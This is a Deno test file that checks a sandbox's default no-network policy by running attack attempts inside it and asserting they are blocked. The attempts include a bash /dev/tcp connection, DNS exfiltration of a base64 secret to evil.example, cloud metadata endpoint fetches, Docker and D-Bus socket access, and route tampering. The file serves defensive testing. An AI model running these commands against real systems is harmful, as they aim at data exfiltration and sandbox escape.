// ATTACKS.md §4.2 — network, under the default policy (network "none": an empty netns with only
// `lo`, and Landlock handling TCP bind/connect with no port allowed). The rows about network
// "proxy" (N5-N8-proxy, N10, N11, N20) are in network_proxy_rows.ts.
import dgram from "node:dgram";
import { assert, assertEquals, assertMatch, assertNotIncludes } from "../../assert.ts";
import { type Attack, attackSuite, keyValues, python } from "./attack_table.ts";
import {
  allowedHostOtherPort,
  allowedNameToPrivateAddress,
  domainFronting,
  metadataThroughProxy,
  nonAllowlistedDomain,
  proxyTokenReuse,
  relayedConnect,
} from "./network_proxy_rows.ts";

/** Resolves with the first connection the listener accepts, or null after `ms`. */
async function acceptWithin(listener: Deno.Listener, ms: number): Promise<Deno.Conn | null> {
  let timer: ReturnType<typeof setTimeout> | undefined;
  const timeout = new Promise<null>((resolve) => timer = setTimeout(() => resolve(null), ms));
  try {
    return await Promise.race([listener.accept(), timeout]);
  } finally {
    clearTimeout(timer);
  }
}

/** The host's upstream DNS servers (non-loopback), or a public one. */
async function hostNameservers(): Promise<string[]> {
  const conf = await Deno.readTextFile("/etc/resolv.conf").catch(() => "");
  const servers = [...conf.matchAll(/^nameserver\s+(\d+\.\d+\.\d+\.\d+)\s*$/gm)]
    .map((m) => m[1]).filter((ip) => !ip.startsWith("127."));
  return servers.length ? servers : ["8.8.8.8"];
}

function udpSocket(): Promise<dgram.Socket> {
  const socket = dgram.createSocket("udp4");
  return new Promise((resolve) => socket.bind(0, "127.0.0.1", () => resolve(socket)));
}

attackSuite("§4.2", [
  {
    id: "N1",
    name: "ignore the proxy: direct connections",
    needs: ["python3", "curl"],
    script: `curl -sS --noproxy '*' -m 5 https://example.com; echo name=$?
curl -sS --noproxy '*' -m 5 https://1.1.1.1; echo ip=$?
${
      python(`
attempt("v4", lambda: socket.create_connection(("1.1.1.1", 443), timeout=5))
attempt("v6", lambda: socket.create_connection(("2606:4700:4700::1111", 443), timeout=5))`)
    }`,
    expect: (r) => {
      const out = keyValues(r.stdout);
      // Landlock answers every TCP connect before routing: EACCES, not ENETUNREACH.
      assertEquals([out.v4, out.v6], ["EACCES", "EACCES"]);
      assertEquals(out.name, "6", "no resolver: curl cannot even resolve");
      assertEquals(out.ip, "7", "curl to a literal IP cannot connect");
      assertMatch(r.stderr, /Could not resolve host: example\.com/);
    },
  },
  {
    id: "N2",
    name: "raw sockets and ICMP",
    needs: ["python3"],
    script: python(`
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt("raw6", lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6))
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0))
attempt("ping", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP))`),
    expect: (r) => {
      const out = keyValues(r.stdout);
      assertEquals(out.raw, "EPERM", "no CAP_NET_RAW");
      assertEquals(out.raw6, "EPERM");
      assertEquals(out.packet, "EPERM", "AF_PACKET is outside the seccomp family allowlist");
      // A fresh netns starts with ping sockets disabled (ping_group_range "1 0"): EACCES.
      assertEquals(out.ping, "EACCES");
    },
  },
  {
    id: "N3",
    name: "bash /dev/tcp",
    needs: ["bash"],
    script: "bash -c 'echo x > /dev/tcp/1.1.1.1/80'; echo rc=$?",
    expect: (r) => {
      assertMatch(r.stdout, /^rc=1$/m);
      assertMatch(r.stderr, /connect: Permission denied/);
    },
  },
  {
    id: "N4",
    name: "DNS exfiltration",
    needs: ["python3", "getent"],
    prepare: async () => (await hostNameservers())[0],
    script:
      `cat /etc/resolv.conf; getent ahosts "$(echo secret | base64).evil.example"; echo getent=$?
${
        python(`
query = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x06c2xlYw\\x04evil\\x07example\\x00\\x00\\x01\\x00\\x01"
attempt("upstream", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, (sys.argv[1], 53)))
attempt("public", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, ("8.8.8.8", 53)))
attempt("tcp53", lambda: socket.create_connection((sys.argv[1], 53), timeout=5))`)
      }`,
    expect: (r, _ws, nameserver) => {
      const out = keyValues(r.stdout);
      assertNotIncludes(r.stdout, "nameserver", "the sandbox has no resolver configured");
      assertNotIncludes(r.stdout, nameserver);
      assertEquals(out.getent, "2", "getent: not found");
      // No route out of the empty netns, for UDP too (which Landlock does not cover).
      assertEquals(out.upstream, "ENETUNREACH");
      assertEquals(out.public, "ENETUNREACH");
      assertEquals(out.tcp53, "EACCES");
    },
  },
  nonAllowlistedDomain(),
  allowedHostOtherPort(),
  allowedNameToPrivateAddress(),
  {
    id: "N8",
    name: "cloud metadata endpoint is unreachable",
    needs: ["python3", "curl"],
    script: `curl -sS -m 5 http://169.254.169.254/latest/meta-data/; echo curl=$?
${
      python(`
attempt("tcp", lambda: socket.create_connection(("169.254.169.254", 80), timeout=5))
attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("169.254.169.254", 80)))
attempt("v6", lambda: socket.create_connection(("fd00:ec2::254", 80), timeout=5))`)
    }`,
    expect: (r) => {
      const out = keyValues(r.stdout);
      assertEquals(out.curl, "7");
      assertEquals(out.tcp, "EACCES");
      assertEquals(out.udp, "ENETUNREACH");
      assertEquals(out.v6, "EACCES");
    },
  },
  metadataThroughProxy(),
  hostLoopback(),
  relayedConnect(),
  domainFronting(),
  hostAbstractSocket(),
  hostPathnameSockets(),
  {
    id: "N16",
    name: "UDP / QUIC egress",
    needs: ["python3"],
    script: python(`
attempt("v4", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("8.8.8.8", 53)))
attempt("quic", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("1.1.1.1", 443)))
attempt("v6", lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"x", ("2001:4860:4860::8888", 53)))
def connected():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect(("1.1.1.1", 443))
attempt("connect", connected)`),
    expect: (r) => {
      const out = keyValues(r.stdout);
      assertEquals(out, {
        v4: "ENETUNREACH",
        quic: "ENETUNREACH",
        v6: "ENETUNREACH",
        connect: "ENETUNREACH",
      });
    },
  },
  {
    id: "N17",
    name: "vsock and WSL interop",
    needs: ["python3"],
    script: `ls /mnt/c/Windows /proc/sys/fs/binfmt_misc/WSLInterop 2>&1; ${
      python(`
attempt("vsock", lambda: socket.socket(40, socket.SOCK_STREAM))
attempt("vsock_dgram", lambda: socket.socket(40, socket.SOCK_DGRAM))`)
    }`,
    expect: (r) => {
      const out = keyValues(r.stdout);
      assertEquals([out.vsock, out.vsock_dgram], ["EPERM", "EPERM"]);
      assertMatch(r.stdout, /'\/mnt\/c\/Windows': No such file/);
      assertMatch(r.stdout, /WSLInterop': No such file/);
    },
  },
  {
    id: "N18",
    name: "route and link tampering",
    needs: ["ip"],
    prepare: () => Deno.readTextFile("/proc/net/route"),
    script: `ip route add default via 10.0.0.1; echo route=$?
ip link set lo down; echo link=$?
ip addr add 10.9.9.9/8 dev lo; echo addr=$?
ip -o link show lo; ip -o addr show lo`,
    expect: async (r, _ws, routesBefore) => {
      const out = keyValues(r.stdout);
      assertEquals([out.route, out.link, out.addr], ["2", "2", "2"]);
      assertEquals(r.stderr.match(/RTNETLINK answers: Operation not permitted/g)?.length, 3);
      assertMatch(r.stdout, /lo: <LOOPBACK,UP,LOWER_UP>/);
      assertNotIncludes(r.stdout, "10.9.9.9");
      assertEquals(await Deno.readTextFile("/proc/net/route"), routesBefore);
    },
  },
  listenInside(),
  proxyTokenReuse(),
]);

/** N9: a TCP and a UDP listener on the host's 127.0.0.1 get nothing from the sandbox. */
function hostLoopback(): Attack {
  let tcp: Deno.TcpListener | undefined;
  let udp: dgram.Socket | undefined;
  const received: string[] = [];
  return {
    id: "N9",
    name: "host loopback services are not reachable",
    needs: ["python3"],
    prepare: async () => {
      tcp = Deno.listen({ hostname: "127.0.0.1", port: 0 });
      udp = await udpSocket();
      udp.on("message", (m) => received.push(String(m)));
      return `${tcp.addr.port} ${udp.address().port}`;
    },
    script: python(`
tcp, udp = map(int, sys.argv[1].split())
attempt("tcp", lambda: socket.create_connection(("127.0.0.1", tcp), timeout=5))
attempt("tcp_any", lambda: socket.create_connection(("0.0.0.0", tcp), timeout=5))
attempt("tcp6", lambda: socket.create_connection(("::1", tcp), timeout=5))
attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", udp)))`),
    expect: async (r) => {
      const out = keyValues(r.stdout);
      assertEquals([out.tcp, out.tcp_any, out.tcp6], ["EACCES", "EACCES", "EACCES"]);
      // UDP is not Landlock's: the datagram is sent, but on the sandbox's own `lo`.
      assertEquals(out.udp, "OK");
      const conn = await acceptWithin(tcp!, 200);
      conn?.close();
      assertEquals(conn, null, "the host TCP listener got a connection");
      assertEquals(received, [], "the host UDP socket got a datagram");
    },
    teardown: () => {
      tcp?.close();
      udp?.close();
    },
  };
}

/** N12: a live abstract socket on the host is not reachable from inside. */
function hostAbstractSocket(): Attack {
  let listener: Deno.Listener | undefined;
  return {
    id: "N12",
    name: "host abstract unix sockets",
    needs: ["python3"],
    prepare: () => {
      const name = `coop-attack-${crypto.randomUUID()}`;
      listener = Deno.listen({ transport: "unix", path: `\0${name}` });
      return name;
    },
    script: python(`
attempt("abstract", lambda: socket.socket(socket.AF_UNIX).connect("\\0" + sys.argv[1]))
attempt("x11", lambda: socket.socket(socket.AF_UNIX).connect("\\0/tmp/.X11-unix/X0"))`),
    expect: async (r, _ws, name) => {
      const out = keyValues(r.stdout);
      // Abstract names belong to the netns, and the sandbox's is empty. (With network "host"
      // the Landlock scope answers EPERM instead — not this policy.)
      assertEquals(out.abstract, "ECONNREFUSED");
      assertEquals(out.x11, "ECONNREFUSED");
      // The host socket was live the whole time.
      (await Deno.connect({ transport: "unix", path: `\0${name}` })).close();
    },
    teardown: () => listener?.close(),
  };
}

/** N13: host pathname sockets, a live canary among them, do not exist inside. */
function hostPathnameSockets(): Attack {
  let listener: Deno.Listener | undefined;
  return {
    id: "N13",
    name: "host pathname sockets (docker, D-Bus, a live canary)",
    needs: ["python3", "curl"],
    prepare: async () => {
      const dir = await Deno.makeTempDir({ prefix: "coop-canary-" });
      listener = Deno.listen({ transport: "unix", path: `${dir}/agent.sock` });
      return `${dir}/agent.sock`;
    },
    script: `curl -sS --unix-socket /var/run/docker.sock http://x/containers/json; echo curl=$?
${
      python(`
for label, path in [("canary", sys.argv[1]), ("docker", "/var/run/docker.sock"),
                    ("docker_run", "/run/docker.sock"), ("dbus", "/run/dbus/system_bus_socket"),
                    ("user_bus", "/run/user/%d/bus" % os.getuid())]:
    attempt(label, lambda: socket.socket(socket.AF_UNIX).connect(path))`)
    }`,
    expect: async (r, _ws, path) => {
      const out = keyValues(r.stdout);
      assertEquals(out.curl, "7");
      for (const label of ["canary", "docker", "docker_run", "dbus", "user_bus"]) {
        assertEquals(out[label], "ENOENT", label);
      }
      (await Deno.connect({ transport: "unix", path })).close();
    },
    teardown: async (path) => {
      listener?.close();
      await Deno.remove(path.slice(0, path.lastIndexOf("/")), { recursive: true });
    },
  };
}

/** N19: servers inside bind only in the sandbox's netns; the host cannot reach them. */
function listenInside(): Attack {
  let host: dgram.Socket | undefined;
  let timer: ReturnType<typeof setInterval> | undefined;
  let sent = 0;
  return {
    id: "N19",
    name: "listen and expose",
    needs: ["python3", "timeout"],
    prepare: async () => {
      // The host holds a UDP port and keeps sending to it while the sandbox listens there.
      host = await udpSocket();
      const port = host.address().port;
      timer = setInterval(() => host!.send("from-host", port, "127.0.0.1", () => sent++), 20);
      return String(port);
    },
    script: `timeout 5 python3 -m http.server --bind 127.0.0.1 8080 2>&1 | tail -1
${
      python(`
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
attempt("bind_udp", lambda: s.bind(("127.0.0.1", int(sys.argv[1]))))
s.settimeout(0.5)
try:
    print("got=" + s.recv(100).decode())
except socket.timeout:
    print("got=nothing")
s.sendto(b"own-lo", ("127.0.0.1", int(sys.argv[1])))
print("self=" + s.recv(100).decode())`)
    }`,
    expect: (r) => {
      const out = keyValues(r.stdout);
      // With the network off Landlock allows no TCP bind at all, loopback included.
      assertMatch(r.stdout, /PermissionError: \[Errno 13\] Permission denied/);
      // The port the host holds is free in the sandbox: another network stack.
      assertEquals(out.bind_udp, "OK");
      assertEquals(out.got, "nothing", "a host datagram reached the sandbox");
      assertEquals(out.self, "own-lo");
      assert(sent > 5, `the host sender was running (${sent} datagrams)`);
    },
    teardown: () => {
      clearInterval(timer);
      host?.close();
    },
  };
}
